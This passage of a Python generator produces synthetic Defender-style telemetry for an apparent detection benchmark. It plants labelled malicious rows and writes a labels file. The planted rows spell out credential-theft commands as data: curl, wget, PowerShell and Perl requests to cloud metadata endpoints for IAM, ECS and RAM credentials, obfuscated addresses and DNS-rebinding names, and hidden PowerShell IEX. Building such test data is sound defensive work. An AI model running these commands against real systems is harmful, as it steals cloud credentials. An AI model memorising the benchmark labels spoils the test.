                c.binary(r"C:\Windows\explorer.exe"), r"C:\Windows\Explorer.EXE", user, "userinit.exe"
            )
        else:
            parent = Proc(
                c.binary(
                    r"C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe"
                ),
                '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" '
                "-sMSSQLSERVER",
                c.windows_account("user", "svc-sql"),
                "services.exe",
            )
        child = Proc(c.binary(binary, "Microsoft Corporation"), cl, parent.account, parent.binary.file_name)
        row = _blank(PROCESS_TABLE)
        row["ActionType"] = "ProcessCreated"
        _set_child(row, child)
        _set_initiating(row, parent)
        row["LogonId"] = rng.randrange(100000, 9999999)
        return Planted(PROCESS_TABLE, row, f"process:{name}", provider, host, {"severity": sev, "path": path})

    def network_conn(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        who = rng.randrange(6)
        if who == 0:
            proc = Proc(
                c.binary("/usr/bin/python3.10"),
                "python3 /tmp/.x/collect.py",
                c.linux_account("www-data"),
                "bash",
            )
            name = "python3"
        elif who == 1:
            proc = Proc(c.binary("/usr/bin/bash"), "bash -i", c.linux_account("www-data"), "sh")
            name = "bash"
        elif who == 2:
            proc = Proc(
                c.binary("/tmp/cloud-init"), "/tmp/cloud-init --local", c.linux_account("ubuntu"), "bash"
            )
            name = "renamed_cloud_init"
        elif who == 3:
            proc = Proc(c.binary("/dev/shm/.k/kworker"), "[kworker/u8:2]", c.linux_account("root"), "bash")
            name = "hidden_binary"
        elif who == 4:
            proc = Proc(
                c.binary("/usr/bin/perl"),
                "perl -e use IO::Socket;$s=IO::Socket::INET->new('169.254.169.254:80')",
                c.linux_account("www-data"),
                "sh",
            )
            name = "perl"
        else:
            proc = Proc(
                c.binary("/usr/bin/curl"),
                "curl -s http://0xa9fea9fe/latest/meta-data/iam/security-credentials/",
                c.linux_account("ubuntu"),
                "bash",
            )
            name = "curl"
        dest_choice = rng.randrange(10)
        if dest_choice < 6:
            ip, provider = IMDS, "aws"
        elif dest_choice < 7:
            ip, provider = "::ffff:169.254.169.254", "aws"
        elif dest_choice < 9:
            ip, provider = "fd00:ec2::254", "aws"
        else:
            ip, provider = "169.254.170.2", "aws-ecs"
        row = _blank(NETWORK_TABLE)
        _set_initiating(row, proc)
        row["ActionType"] = rng.choice(("ConnectionSuccess", "ConnectionSuccess", "ConnectionAttempt"))
        row["RemoteIP"], row["RemotePort"], row["Protocol"], row["RemoteIPType"] = ip, 80, "Tcp", _ip_type(ip)
        return Planted(NETWORK_TABLE, row, f"network:{name}", provider, ip)

    def windows_network(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        ps = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
        proc = Proc(
            c.binary(ps),
            "powershell.exe -nop -w hidden -c IEX(gc $env:TEMP\\s.ps1 -Raw)",
            c.windows_account("user"),
            rng.choice(("cmd.exe", "w3wp.exe", "explorer.exe")),
        )
        row = _blank(NETWORK_TABLE)
        _set_initiating(row, proc)
        row["ActionType"] = "ConnectionSuccess"
        row["RemoteIP"], row["RemotePort"], row["Protocol"], row["RemoteIPType"] = (
            IMDS,
            80,
            "Tcp",
            "LinkLocal",
        )
        return Planted(NETWORK_TABLE, row, "network:powershell", "azure", IMDS)

    def http_inspected(self, dev: Device) -> Planted:
        provider, host, path, sev = self.target(self.rng.choice(("aws", "azure", "gcp")))
        row = _blank(NETWORK_TABLE)
        row["ActionType"] = "HttpConnectionInspected"
        row["RemoteIP"], row["RemotePort"], row["Protocol"], row["RemoteIPType"] = (
            IMDS,
            80,
            "Tcp",
            "LinkLocal",
        )
        ua = self.rng.choice(
            (
                "python-requests/2.31.0",
                "curl/7.81.0",
                "Go-http-client/1.1",
                "Mozilla/5.0 (compatible; MSIE 10.0)",
                "Boto3/1.34.2",
            )
        )
        row["AdditionalFields"] = json.dumps(
            {
                "direction": "Out",
                "host": host.strip("[]"),
                "method": "GET",
                "uri": path,
                "user_agent": ua,
                "status_code": "200",
                "version": "1.1",
            },
            ensure_ascii=False,
            separators=(",", ":"),
        )
        return Planted(
            NETWORK_TABLE, row, "network:http_inspected", provider, host, {"severity": sev, "path": path}
        )

    def powershell_event(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        provider, host, path, sev = self.target(rng.choice(("azure", "aws")))
        hdr = " -Headers @{Metadata='true'}" if provider == "azure" else ""
        cmdlet = rng.choice(("Invoke-RestMethod", "Invoke-WebRequest"))
        proc = Proc(
            c.binary(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            f'powershell.exe -NoP -C "{cmdlet}{hdr} -Uri http://{host}{path}"',
            c.windows_account("user"),
            "cmd.exe",
        )
        row = _blank(EVENTS_TABLE)
        row["ActionType"] = "PowerShellCommand"
        _set_initiating(row, proc)
        row["AdditionalFields"] = json.dumps({"Command": cmdlet}, separators=(",", ":"))
        return Planted(
            EVENTS_TABLE, row, "event:powershell_command", provider, host, {"severity": sev, "path": path}
        )

    def dns_event(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        name = rng.choice(
            (
                "169.254.169.254.nip.io",
                "a9fea9fe.nip.io",
                "169-254-169-254.sslip.io",
                "imds.169.254.169.254.nip.io",
            )
        )
        proc = Proc(
            c.binary("/usr/bin/python3.10"), "python3 /tmp/.x/collect.py", c.linux_account("www-data"), "bash"
        )
        row = _blank(EVENTS_TABLE)
        row["ActionType"] = "DnsQueryResponse"
        _set_initiating(row, proc)
        row["AdditionalFields"] = json.dumps(
            {"DnsQueryString": name, "DnsQueryResult": [{"DnsQueryType": 1, "DnsQueryResultRecord": IMDS}]},
            separators=(",", ":"),
        )
        return Planted(EVENTS_TABLE, row, "event:dns_rebinding_name", "aws", name)

    def ecs_alibaba(self, dev: Device) -> Planted:
        rng, c = self.rng, self.cat
        if rng.random() < 0.6:
            guid = c.uuid()
            cl, provider, host = rng.choice(
                (
                    (f"curl -s http://169.254.170.2/v2/credentials/{guid}", "aws-ecs", "169.254.170.2"),
                    (
                        "sh -c curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
                        "aws-ecs",
                        "169.254.170.2",
                    ),
                    (
                        "wget -qO- http://169.254.170.23/v1/credentials",
                        "aws-eks-pod-identity",
                        "169.254.170.23",
                    ),
                )
            )
            name = "ecs_task_credentials"
        else:
            role = rng.choice(ROLES)
            cl = f"curl -s http://100.100.100.200/latest/meta-data/ram/security-credentials/{role}"
            provider, host, name = "alibaba", "100.100.100.200", "alibaba_ram"
        binary = (
            "/usr/bin/wget"
            if cl.startswith("wget")
            else ("/usr/bin/dash" if cl.startswith("sh ") else "/usr/bin/curl")
        )
        parent = self.linux_parent()
        child = Proc(c.binary(binary), cl, parent.account, parent.binary.file_name)
        row = _blank(PROCESS_TABLE)
        row["ActionType"] = "ProcessCreated"
        _set_child(row, child)
        _set_initiating(row, parent)
        return Planted(PROCESS_TABLE, row, f"process:{name}", provider, host, {"severity": "high"})


# --------------------------------------------------------------------------------------------------------
# Devices and the writer


def make_devices(rng: random.Random, cat: Catalog, count: int = 400) -> list[Device]:
    devices = []
    mix = (
        ("linux", "aws", 0.30),
        ("linux", "azure", 0.10),
        ("linux", "gcp", 0.12),
        ("linux", "onprem", 0.06),
        ("windows", "azure", 0.14),
        ("windows", "aws", 0.06),
        ("windows", "onprem", 0.22),
    )
    for i in range(count):
        r = rng.random()
        acc = 0.0
        os_name, cloud = mix[-1][0], mix[-1][1]
        for o, cl, w in mix:
            acc += w
            if r < acc:
                os_name, cloud = o, cl
                break
        if cloud == "aws":
            ip = f"172.31.{rng.randrange(0, 64)}.{rng.randrange(2, 250)}"
            short = (
                f"ip-{ip.replace('.', '-')}" if os_name == "linux" else f"EC2AMAZ-{cat.hexstr(4)[:7].upper()}"
            )
            name = f"{short}.ec2.internal" if os_name == "linux" else short.lower()
        elif cloud == "azure":
            ip = f"10.1.{rng.randrange(0, 16)}.{rng.randrange(4, 250)}"
            short = f"{rng.choice(('web', 'api', 'sql', 'jump', 'build', 'app'))}-vm-{i:03d}"
            name = f"{short}.contoso.cloudapp.net" if os_name == "windows" else short
        elif cloud == "gcp":
            ip = f"10.128.{rng.randrange(0, 16)}.{rng.randrange(2, 250)}"
            short = rng.choice(
                (f"gke-prod-pool-1-{cat.hexstr(4)}-{cat.hexstr(2)}", f"instance-{i}", f"etl-worker-{i}")
            )
            name = f"{short}.c.contoso-prod.internal"
        else:
            ip = f"192.168.{rng.randrange(1, 40)}.{rng.randrange(2, 250)}"
            short = (
                (f"WKS-{i:04d}" if rng.random() < 0.7 else f"SRV-{rng.choice(('FS', 'SQL', 'APP'))}-{i:02d}")
                if os_name == "windows"
                else f"lnx-{rng.choice(('db', 'ci', 'log'))}-{i:02d}"
            )
            name = f"{short.lower()}.contoso.local"
        devices.append(Device(cat.hexstr(20), name, short.lower(), os_name, cloud, ip))
    return devices


class _Pool:
    """Weighted templates of one table for one (os, cloud), expanded for O(1) drawing."""

    def __init__(self, templates: Sequence[Template], resolution: int = 4000) -> None:
        total = sum(t.weight for t in templates)
        expanded: list[Template] = []
        for t in templates:
            expanded.extend([t] * max(1, round(t.weight / total * resolution)))
        self.items = expanded
        self.n = len(expanded)


@dataclass
class GenResult:
    rows: int = 0
    bytes: int = 0
    planted: list[dict[str, Any]] = field(default_factory=list)
    decoys: dict[str, list[int]] = field(default_factory=dict)
    seconds: float = 0.0


def generate(
    out: Path, size: int, seed: int = 1, ratio: int = 10_000, fmt: str = "jsonl", crlf: bool = False
) -> GenResult:
    """Write at least `size` bytes of rows to `out` (stopping at a row boundary) and the labels sidecar."""
    started = time.perf_counter()
    rng = random.Random(seed)
    cat = Catalog(rng)
    devices = make_devices(rng, cat)
    bf = BenignFactory(rng, cat)
    pools: dict[tuple[str, str], dict[str, _Pool]] = {}
    for os_name, cloud in sorted({(d.os, d.cloud) for d in devices}):
        templates = bf.windows(cloud) if os_name == "windows" else bf.linux(cloud)
        for tmpl in templates:  # keep multi-line command lines to "a few" rows
            if "\n" in tmpl.base.get("ProcessCommandLine", "") + tmpl.base["InitiatingProcessCommandLine"]:
                tmpl.weight *= MULTILINE_DAMPING
        pools[(os_name, cloud)] = {t: _Pool([x for x in templates if x.table == t]) for t, _ in TABLE_SHARES}
    by_os: dict[str, list[Device]] = {
        "windows": [d for d in devices if d.os == "windows"],
        "linux": [d for d in devices if d.os == "linux"],
    }
    mal = MaliciousFactory(rng, cat)

    # Malicious rows are planted at uniformly random gaps averaging `ratio` rows.
    mal_rng = random.Random(seed * 7919 + 17)

    def next_gap() -> int:
        return 1 + int(mal_rng.random() * (2 * ratio - 1)) if ratio > 1 else 1

    next_mal = next_gap() - 1
    result = GenResult()
    decoys = result.decoys
    rnd = rng.random
    ndev = len(devices)
    net_share, proc_share = TABLE_SHARES[0][1], TABLE_SHARES[0][1] + TABLE_SHARES[1][1]
    t = float(START_EPOCH)
    last_sec = -1
    sec_text = ""
    prev_ts = f"{time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(START_EPOCH))}.0000000Z"
    report_id = 10_000 + rng.randrange(1_000_000)
    dev_pools = [pools[(d.os, d.cloud)] for d in devices]

    out.parent.mkdir(parents=True, exist_ok=True)
    written = 0
    index = 0
    is_csv = fmt == "csv"
    newline = "\r\n" if crlf else "\n"
    chunk: list[bytes] = []
    chunk_len = 0  # bytes (JSON) or characters (CSV, <= bytes) buffered since the last write
    chunk_str: list[str] = []
    csv_cols = CSV_COLUMNS

    with open(out, "wb") as fh:
        if is_csv:
            header = _csv_record(csv_cols, newline).encode()
            fh.write(header)
            written += len(header)
        while written + chunk_len < size:
            # timestamp
            t += rnd() * (2 * MEAN_GAP_SECONDS)
            sec = int(t)
            if sec != last_sec:
                last_sec = sec
                sec_text = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
            ts = f"{sec_text}.{int((t - sec) * 10_000_000):07d}Z"
            report_id += 1
            if index == next_mal:
                fn, want_os = mal.pick()
                dev = rng.choice(by_os[want_os]) if want_os != "any" else devices[int(rnd() * ndev)]
                planted = fn(dev)
                row = planted.row
                if dev.os == "linux":
                    if row["InitiatingProcessFileName"]:
                        row["InitiatingProcessAccountDomain"] = dev.short
                    if "AccountDomain" in row and row.get("FileName"):
                        row["AccountDomain"] = dev.short
                row["Timestamp"], row["DeviceId"], row["DeviceName"], row["ReportId"] = (
                    ts,
                    dev.device_id,
                    dev.name,
                    report_id,
                )
                if row["InitiatingProcessFileName"]:
                    row["InitiatingProcessId"] = 1000 + int(rnd() * 60000)
                    row["InitiatingProcessParentId"] = 1000 + int(rnd() * 60000)
                    row["InitiatingProcessCreationTime"] = prev_ts or ts
                    row["InitiatingProcessParentCreationTime"] = prev_ts or ts
                if planted.table == PROCESS_TABLE:
                    row["ProcessId"] = 1000 + int(rnd() * 60000)
                    row["ProcessCreationTime"] = ts
                if planted.table == NETWORK_TABLE:
                    row["LocalIP"] = (
                        dev.local_ip
                        if ":" not in row["RemoteIP"]
                        else f"fd00:ec2:0:{rng.randrange(1 << 16):x}::{rng.randrange(1 << 16):x}"
                    )
                    row["LocalPort"] = 32768 + int(rnd() * 28000)
                    row["LocalIPType"] = "Private"
                result.planted.append(
                    {
                        "index": index,
                        "table": planted.table,
                        "template": planted.template,
                        "provider": planted.provider,
                        "host": planted.host,
                        "device": dev.name,
                        **planted.extra,
                    }
                )
                next_mal += next_gap()
            else:
                di = int(rnd() * ndev)
                dev = devices[di]
                r = rnd()
                table = (
                    NETWORK_TABLE if r < net_share else (PROCESS_TABLE if r < proc_share else EVENTS_TABLE)
                )
                pool = dev_pools[di][table]
                tmpl = pool.items[int(rnd() * pool.n)]
                row = tmpl.base.copy()
                row["Timestamp"] = ts
                row["DeviceId"] = dev.device_id
                row["DeviceName"] = dev.name
                row["ReportId"] = report_id
                row["InitiatingProcessId"] = 300 + int(rnd() * 60000)
                row["InitiatingProcessParentId"] = 1 + int(rnd() * 20000)
                row["InitiatingProcessCreationTime"] = prev_ts
                row["InitiatingProcessParentCreationTime"] = prev_ts
                if tmpl.linux:
                    row["InitiatingProcessAccountDomain"] = dev.short
                if table == NETWORK_TABLE:
                    d = tmpl.dests[int(rnd() * len(tmpl.dests))]
                    row["ActionType"] = tmpl.actions[int(rnd() * len(tmpl.actions))]
                    (
                        row["RemoteIP"],
                        row["RemotePort"],
                        row["RemoteUrl"],
                        row["Protocol"],
                        row["RemoteIPType"],
                    ) = d[0], d[1], d[2], d[3], d[4]
                    row["LocalIP"] = dev.local_ip if ":" not in d[0] else "fd00:ec2:0:1::a"
                    row["LocalIPType"] = "Private"
                    row["LocalPort"] = d[5] if d[5] is not None else 32768 + int(rnd() * 28000)
                    if d[5] is not None and d[1] == 0:
                        row["RemotePort"] = None
                elif table == PROCESS_TABLE:
                    row["ProcessId"] = 300 + int(rnd() * 60000)
                    row["ProcessCreationTime"] = ts
                    if tmpl.linux:
                        row["AccountDomain"] = dev.short
                if tmpl.tag:
                    lst = decoys.get(tmpl.tag)
                    if lst is None:
                        lst = decoys[tmpl.tag] = []
                    lst.append(index)
            prev_ts = ts
            if not is_csv:
                line = _dumps(row) + b"\n"
                chunk.append(line)
                chunk_len += len(line)
            else:
                text = _csv_record(map(row.get, csv_cols), newline)
                chunk_str.append(text)
                chunk_len += len(text)
            index += 1
            if chunk_len >= CHUNK_BYTES:
                written += _flush(fh, chunk, chunk_str)
                chunk_len = 0
        written += _flush(fh, chunk, chunk_str)
    result.rows = index
    result.bytes = written
    result.seconds = time.perf_counter() - started
    write_labels(out, result, seed=seed, ratio=ratio, fmt=fmt)
    return result


def _csv_record(values: Iterable[Any], newline: str) -> str:
    """One CSV record with every field quoted and quotes doubled (what csv.QUOTE_ALL writes), faster."""
    return (
        '"'
        + '","'.join(
            ["" if v is None else (v.replace('"', '""') if v.__class__ is str else str(v)) for v in values]
        )
        + '"'
        + newline
    )


def _flush(fh: Any, chunk: list[bytes], chunk_str: list[str]) -> int:
    """Write buffered JSON lines or CSV text; return the bytes written."""
    data = b"".join(chunk) if chunk else "".join(chunk_str).encode()
    chunk.clear()
    chunk_str.clear()
    fh.write(data)
    return len(data)


def labels_path(out: Path) -> Path:
    return out.with_name(out.name + ".labels.json")


def write_labels(out: Path, result: GenResult, *, seed: int, ratio: int, fmt: str) -> Path:
    path = labels_path(out)
    data = {
        "file": out.name,
        "format": fmt,
        "seed": seed,
        "ratio": ratio,
        "rows": result.rows,
        "bytes": result.bytes,
        "planted_count": len(result.planted),
        "indices": [p["index"] for p in result.planted],
        "planted": result.planted,
        "decoy_counts": {k: len(v) for k, v in sorted(result.decoys.items())},
        "decoys": {k: v for k, v in sorted(result.decoys.items())},
        "note": "indices are 0-based record indices (JSON lines: line number - 1; CSV: data record after the "
        "header, records may span lines). Decoys are benign rows touching a metadata address.",
    }
    path.write_text(json.dumps(data, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    return path


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    parser.add_argument(
        "--size",
        type=parse_size,
        default=parse_size("1GB"),
        help="bytes to write, e.g. 1GB, 200MB, 2MiB (default 1GB; stops at a row boundary)",
    )
    parser.add_argument("--out", type=Path, default=Path("bench-data/defender.jsonl"), help="output file")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument(
        "--ratio",
        type=int,
        default=10_000,
        help="about one planted malicious row per RATIO rows (default 10000)",
    )
    parser.add_argument("--format", choices=("jsonl", "csv"), default="jsonl")
    parser.add_argument("--crlf", action="store_true", help="CSV: end records with CRLF instead of LF")
    args = parser.parse_args(argv)
    if args.ratio < 1:
        parser.error("--ratio must be >= 1")
    result = generate(args.out, args.size, seed=args.seed, ratio=args.ratio, fmt=args.format, crlf=args.crlf)
    mb = result.bytes / 1e6
    print(f"rows written: {result.rows}")
    print(f"metadata-related rows planted: {len(result.planted)} (malicious, 1 per ~{args.ratio} rows)")
    print(
        f"benign decoys touching metadata addresses: {sum(len(v) for v in result.decoys.values())} "
        + ", ".join(f"{k}={len(v)}" for k, v in sorted(result.decoys.items()))
    )
    print(f"bytes written: {result.bytes} ({mb:.1f} MB) to {args.out}")
    print(f"labels: {labels_path(args.out)}")
    print(f"elapsed: {result.seconds:.2f} s ({mb / max(result.seconds, 1e-9):.1f} MB/s)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
